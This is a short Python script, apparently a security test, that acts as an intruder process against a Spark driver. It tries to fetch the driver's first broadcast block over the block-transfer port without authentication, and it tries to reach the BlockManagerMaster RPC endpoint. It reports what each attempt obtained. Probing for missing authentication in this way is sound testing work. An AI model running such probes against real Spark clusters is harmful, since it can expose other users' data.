"""Another process of the machine, with a Spark of its own and no secret: what does a driver's port give it?

`intruder.py HOST RPC_PORT BLOCK_PORT` prints a line for each attempt: its name, and what it took or how it failed.
"""

import sys
from collections.abc import Callable

from py4j.protocol import Py4JJavaError
from pyspark.sql import SparkSession


def main(host: str, rpc_port: int, block_port: int) -> None:
    mine = {"spark.ui.enabled": "false", "spark.rpc.askTimeout": "20s", "spark.shuffle.io.maxRetries": "0"}
    spark = SparkSession.builder.master("local[1]").config(map=mine).getOrCreate()
    jvm = spark.sparkContext._jvm
    env = jvm.org.apache.spark.SparkEnv.get()

    def block() -> bytes:
        service = env.blockManager().blockTransferService()
        taken = service.fetchBlockSync(host, block_port, "driver", "broadcast_0_piece0", None)
        packed = jvm.java.io.ByteArrayInputStream(
            jvm.org.apache.spark.network.util.JavaUtils.bufferToArray(taken.nioByteBuffer())
        )
        return bytes(jvm.net.jpountz.lz4.LZ4BlockInputStream(packed).readAllBytes())

    def endpoint() -> bytes:
        address = jvm.org.apache.spark.rpc.RpcAddress(host, rpc_port)
        return str(env.rpcEnv().setupEndpointRef(address, "BlockManagerMaster")).encode()

    for attempt in (block, endpoint):
        sys.stdout.write(f"{attempt.__name__} {_told(attempt)}\n")


def _told(attempt: Callable[[], bytes]) -> str:
    try:
        return f"took {attempt()!r}"
    except Py4JJavaError as error:
        return "failed: " + str(error.java_exception.toString()).replace("\n", " ")


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
